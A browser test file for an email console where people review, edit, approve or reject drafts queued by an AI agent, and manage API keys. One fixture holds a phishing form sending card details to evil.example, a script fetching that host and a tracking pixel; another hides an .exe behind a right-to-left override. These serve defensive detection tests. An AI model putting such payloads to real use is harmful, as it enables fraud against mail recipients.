import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { seriousFaults } from '../support/axe'
import { launchChromium, noBrowser, openTab, type Tab } from '../support/chromium'
import { startService, type TestService } from '../support/service'

describe.skipIf(noBrowser)('approvals and keys at the console', () => {
  let service: TestService
  let browser: Browser
  let url: string
  let tab: Tab
  let page: Page
  let key: string
  let answered: string
  let read: string
  beforeAll(async () => {
    service = await startService({ delivery: 'capture' })
    url = service.url.replace('/v1', '/console')
    const { home } = service
    const made = await service.service.keys.create({
      account_id: home.tenantId,
      name: 'writer',
      scopes: ['read', 'manage'],
    })
    key = made.api_key
    await service.mail({ from: 'Cy <cy@example.net>', subject: 'A question', text: 'What does it cost?' })
    answered = (await service.call('GET', '/messages')).body.messages[0].id
    await service.mail({ from: 'Dana <dana@example.org>', subject: 'Another matter', text: 'A secret.' })
    read = (await service.call('GET', '/messages')).body.messages[0].id
    browser = await launchChromium()
    tab = await openTab(browser)
    page = tab.page
    await page.goto(service.service.ownerLink())
    await page.getByRole('navigation', { name: 'Pages' }).waitFor()
  })
  afterAll(async () => {
    await browser?.close()
    await service?.[Symbol.asyncDispose]()
  })

  async function ask(content: object): Promise<string> {
    const body = {
      inbox_id: service.home.inboxId,
      to: ['bo@example.com'],
      subject: 'Hi',
      text: 'hello',
      ...content,
    }
    const { id } = (await service.call('POST', '/drafts', { key, body })).body
    expect((await service.call('POST', `/drafts/${id}/send`, { key })).status).toBe(202)
    return id
  }
  const statusOf = async (id: string) => (await service.call('GET', `/drafts/${id}`)).body
  const show = async (id: string) => {
    await page.goto(`${url}/approvals?draft=${id}`)
    await page.getByRole('button', { name: 'Approve and send' }).waitFor()
  }

  /** Saves what the page looks like, if `RESTANTE_TEST_PICTURES` names a folder. */
  const picture = async (name: string) => {
    const folder = process.env.RESTANTE_TEST_PICTURES
    if (folder) await page.screenshot({ path: `${folder}/${name}.png`, fullPage: true })
  }

  it('shows every field that the mail is made of, and what it answers', async () => {
    const time = new Date(Date.now() + 400 * 86_400_000)
    const id = await ask({
      to: ['to@example.com', 'to-two@example.com'],
      cc: ['cc@example.com'],
      bcc: ['bcc@example.com'],
      reply_to: ['answers@elsewhere.example'],
      reply_to_message_id: answered,
      subject: 'A subject',
      text: 'Words of text.',
      html: '<p>Words of HTML.</p>',
      headers: { 'X-First': 'one' },
      attachments: [{ filename: 'plan.pdf', content_type: 'application/pdf', content_base64: 'aGVsbG8=' }],
      scheduled_at: time.toISOString(),
      read_message_ids: [answered, read],
      approval_reason: 'this run has read “Another matter”, which to@example.com was no part of',
    })
    await show(id)
    await page.getByRole('link', { name: 'Another matter' }).waitFor()
    await page.getByText('What does it cost?').waitFor()
    for (const summary of await page.locator('summary').all()) await summary.click()
    expect(await seriousFaults(page)).toEqual([])
    const shown = await page.locator('article').textContent()
    for (const part of [
      ...[service.home.address, 'to@example.com', 'to-two@example.com', 'cc@example.com', 'bcc@example.com'],
      ...['answers@elsewhere.example', 'A subject', 'Words of text.', '<p>Words of HTML.</p>'],
      'The agent asks for your approval, since this run has read “Another matter”',
      ...['X-First: one', 'plan.pdf', 'application/pdf, 5 B', String(time.getFullYear())],
    ])
      expect(shown).toContain(part)
    const link = page.getByRole('link', { name: 'Open the message' })
    expect(await link.getAttribute('href')).toContain(answered)
    const downloaded = page.waitForEvent('download')
    await page.getByRole('button', { name: 'plan.pdf' }).click()
    const file = await downloaded
    expect(file.suggestedFilename()).toBe('plan.pdf')
    expect(await readFile((await file.path())!, 'utf8')).toBe('hello')
    expect(tab.errors).toEqual([])
  })

  it('shows everything of it on a phone without scrolling sideways, however many people and however long a name', async () => {
    const filename = `${'plan-'.repeat(30)}.pdf`
    const id = await ask({
      to: ['somebody@example.com', 'somebody-else@example.com', 'a-third-one@example.com'],
      attachments: [{ filename, content_type: 'application/octet-stream', content_base64: 'aGVsbG8=' }],
    })
    await page.setViewportSize({ width: 390, height: 780 })
    const reach = (selector: string) =>
      page.locator(selector).evaluate((one) => one.scrollWidth - one.clientWidth)
    await show(id)
    expect(await page.getByRole('button', { name: filename }).isVisible()).toBe(true)
    expect(await reach('.approvals .right')).toBe(0)
    await page.getByRole('button', { name: 'All approvals' }).click()
    expect(await page.locator('.waiting time').first().isVisible()).toBe(true)
    expect(await reach('.approvals .left')).toBe(0)
    await page.setViewportSize({ width: 1280, height: 800 })
    await service.call('PATCH', `/drafts/${id}`, { key, body: { text: 'Later.' } })
  })

  it('writes out what would turn or hide a part of the mail that is decided on', async () => {
    await show(await ask({ subject: 'Invoice \u202efdp.exe', text: 'Pay\u200b 10\u2066 EUR.' }))
    const shown = await page.locator('article').textContent()
    expect(shown).toContain('Invoice ⟨U+202E⟩fdp.exe')
    expect(shown).toContain('Pay⟨U+200B⟩ 10⟨U+2066⟩ EUR.')
  })

  it('shows a mail that begins to wait while the page is open', async () => {
    await page.goto(`${url}/approvals`)
    await page.getByRole('heading', { name: 'Approvals' }).waitFor()
    await ask({ subject: 'Came in meanwhile' })
    await page.getByRole('checkbox', { name: 'Select Came in meanwhile' }).waitFor()
  })

  it('approves what was shown, and not what was changed since', async () => {
    const id = await ask({ text: 'One bicycle.' })
    await show(id)
    await service.call('PATCH', `/drafts/${id}`, { key, body: { text: 'A hundred bicycles.' } })
    await page.getByRole('button', { name: 'Approve and send' }).click()
    await page
      .getByRole('alert')
      .filter({ hasText: /changed/ })
      .first()
      .waitFor()
    expect(await seriousFaults(page)).toEqual([])
    expect((await statusOf(id)).status).toBe('draft')
    const other = await ask({ text: 'Two bicycles.' })
    await show(other)
    await page.getByRole('button', { name: 'Approve and send' }).click()
    await page.getByText('Approved. It is being sent.').waitFor()
    expect((await statusOf(other)).status).toBe('sent')
  })

  it('sends what a person changed, and rejects with a reason that the agent reads', async () => {
    const id = await ask({ text: 'It costs 10.' })
    await show(id)
    await page.getByRole('button', { name: 'Edit', exact: true }).click()
    await page.getByLabel('Text').fill('It costs 12.')
    await page.getByRole('button', { name: 'Send edited version' }).click()
    await page.getByText('Your edited version is being sent.').waitFor()
    const sent = await statusOf(id)
    expect((await service.call('GET', `/messages/${sent.sent_message_id}`)).body.body_text).toContain(
      'It costs 12.',
    )
    const bad = await ask({ subject: 'No good' })
    await show(bad)
    await page.getByRole('button', { name: 'Reject' }).click()
    await page.getByLabel('Reason').fill('Too dear.')
    await page.getByRole('dialog').getByRole('button', { name: 'Reject' }).click()
    await page.getByText('Rejected. It will not be sent.').waitFor()
    expect(await statusOf(bad)).toMatchObject({ status: 'rejected', error: { message: 'Too dear.' } })
    await page.goto(`${url}/approvals?draft=${bad}`)
    await page.getByText('Rejected: Too dear.').waitFor()
    expect(await seriousFaults(page)).toEqual([])
    expect(await page.getByRole('button', { name: 'Approve and send' }).count()).toBe(0)
  })

  const lying = {
    text: 'Thank you.',
    html: `<p>Thank you.</p><p><b>Please send your card details:</b></p>
      <form action="https://evil.example"><input name="card"><button>Send</button></form>
      <a href="https://evil.example/pay">here</a><img src="https://track.example/a.png">
      <script>fetch('https://evil.example')</script><!--[if mso]>Pay now<![endif]-->`,
  }

  it('shows the HTML first, as most recipients see it, and warns of what differs and what was left out', async () => {
    await show(await ask(lying))
    const frame = page.frameLocator('iframe[title="HTML of the message"]')
    await frame.getByText('Please send your card details').waitFor()
    const box = (await page.locator('article iframe').boundingBox())!
    const text = (await page.getByRole('region', { name: 'Plain text' }).boundingBox())!
    expect(box.y).toBeLessThan(text.y)
    const warnings = await page.getByRole('note').innerText()
    for (const part of [
      'Only the HTML has these words: “please”, “send”, “your”, “card”, “details”',
      'Only the HTML has these links: “https://evil.example/pay”',
      ...['3 form elements', '1 script', 'pictures from track.example', '1 part that only Outlook shows'],
    ])
      expect(warnings).toContain(part)
    // Right-to-left words reorder nothing around them.
    expect(await page.getByRole('note').locator('bdi').allInnerTexts()).toContain('“please”')
    expect(tab.asked.filter((address) => /evil|track/.test(address))).toEqual([])
    expect(await seriousFaults(page)).toEqual([])
    await picture('approve-html')
    await show(await ask({ text: 'Thank you.', html: '<p>Thank <b>you</b>.</p>' }))
    expect(await page.getByRole('note').count()).toBe(0)
  })

  it('keeps an edit when its page is left, and makes the HTML again from it', async () => {
    const id = await ask({ ...lying, subject: 'An edit' })
    await show(id)
    await page.getByRole('button', { name: 'Edit', exact: true }).click()
    await page.getByLabel('Text').fill('Thank you & see you.\n\nhttps://shop.example/a')
    await page.getByRole('link', { name: 'Keys' }).click()
    await page.getByRole('heading', { name: 'API keys' }).waitFor()
    await page.goto(`${url}/approvals?draft=${id}`)
    await page.getByRole('button', { name: 'Send edited version' }).waitFor()
    expect(await page.getByLabel('Text').inputValue()).toContain('Thank you & see you.')
    await picture('approve-edit')
    await page.getByRole('button', { name: 'Discard changes' }).click()
    await page.reload()
    await page.getByRole('button', { name: 'Edit', exact: true }).click()
    expect(await page.getByLabel('Text').inputValue()).toBe('Thank you.')
    await page.getByLabel('Text').fill('Thank you & see you.\n\nhttps://shop.example/a')
    await page.getByRole('button', { name: 'Send edited version' }).click()
    await page.getByText('Your edited version is being sent.').waitFor()
    const { sent_message_id } = await statusOf(id)
    const { body } = await service.call('GET', `/messages/${sent_message_id}`)
    expect(body.body_html).toContain('<p>Thank you &amp; see you.</p>')
    expect(body.body_html).toContain('<a href="https://shop.example/a">')
    expect(body.body_html).not.toContain('card')
  })

  it('decides on many at once', async () => {
    const ids = [await ask({ subject: 'First of many' }), await ask({ subject: 'Second of many' })]
    await page.goto(`${url}/approvals`)
    for (const name of ['First of many', 'Second of many']) await page.getByLabel(`Select ${name}`).check()
    expect(await seriousFaults(page)).toEqual([])
    await page.getByRole('button', { name: 'Reject', exact: true }).first().click()
    await page.getByRole('dialog', { name: 'Reject 2 messages?' }).waitFor()
    expect(await seriousFaults(page)).toEqual([])
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: 'Review and approve' }).click()
    const dialog = page.getByRole('dialog', { name: 'Approve 2 messages?' })
    await dialog.getByRole('article', { name: 'First of many' }).getByText('hello').waitFor()
    await dialog.getByRole('article', { name: 'Second of many' }).getByText('bo@example.com').waitFor()
    expect(await seriousFaults(page)).toEqual([])
    await picture('approve-many')
    await dialog.getByRole('button', { name: 'Approve all 2' }).click()
    await page.getByText('2 approved').waitFor()
    for (const id of ids) expect((await statusOf(id)).status).toBe('sent')
  })

  it('shows drafts that nobody asked for: plain, scheduled, and held by the flow rule', async () => {
    const body = { inbox_id: service.home.inboxId, to: ['bo@example.com'], text: 'hello' }
    const later = new Date(Date.now() + 86_400_000).toISOString()
    const made: string[] = []
    for (const more of [
      { subject: 'A plain one' },
      { subject: 'A later one', scheduled_at: later },
      { subject: 'A held one', approval_reason: 'this run has read “Papers”' },
    ])
      made.push((await service.call('POST', '/drafts', { body: { ...body, ...more } })).body.id)
    await page.goto(`${url}/approvals`)
    const others = page.getByRole('region', { name: 'Other drafts' })
    for (const subject of ['A plain one', 'A later one', 'A held one'])
      await others.getByRole('button', { name: subject }).waitFor()
    await others.getByRole('button', { name: 'A held one' }).click()
    await page.getByText('The agent asks for your approval, since this run has read “Papers”.').waitFor()
    expect(await seriousFaults(page)).toEqual([])
    await picture('other-drafts')
    await page.getByRole('button', { name: 'Send now' }).click()
    await page.getByText('The draft is being sent.').waitFor()
    expect((await statusOf(made[2]!)).status).toBe('sent')
    await others.getByRole('button', { name: 'A later one' }).click()
    await page.getByRole('button', { name: 'Cancel and delete' }).click()
    await page.getByText('Draft deleted.').waitFor()
    await others.getByRole('button', { name: 'A later one' }).waitFor({ state: 'detached' })
    expect((await service.call('GET', `/drafts/${made[1]}`)).status).toBe(404)
  })

  it('makes a key that is shown once, and revokes it', async () => {
    await page.goto(`${url}/keys`)
    await page.getByRole('button', { name: 'Create key' }).click()
    const dialog = page.getByRole('dialog', { name: 'Create key' })
    await dialog.getByLabel('Name').fill('reader')
    await dialog.getByLabel('Send messages').uncheck()
    await dialog.getByRole('button', { name: 'Create' }).click()
    const made = await page.getByRole('textbox', { name: 'New API key' }).inputValue()
    expect(await seriousFaults(page)).toEqual([])
    expect((await service.call('GET', '/account', { key: made })).body.capabilities).toMatchObject({
      send: false,
    })
    await page.reload()
    await page.getByRole('button', { name: 'Revoke reader' }).click()
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click()
    await page.getByText('“reader” is revoked.').waitFor()

    await page.getByRole('button', { name: 'Create key' }).click()
    await dialog.getByLabel('Name').fill('mail server')
    await dialog.getByLabel('Deliver inbound email over HTTP').check()
    await dialog.getByRole('button', { name: 'Create' }).click()
    const inbound = await page.getByRole('textbox', { name: 'New API key' }).inputValue()
    expect((await service.call('GET', '/account', { key: inbound })).body.error).toBe('insufficient_scope')
    await page.getByRole('row', { name: 'mail server' }).getByText('inbound').waitFor()
    expect((await service.call('GET', '/account', { key: made })).status).toBe(401)
    expect(await page.content()).not.toContain(made)
    expect(tab.errors).toEqual([])
  })
})
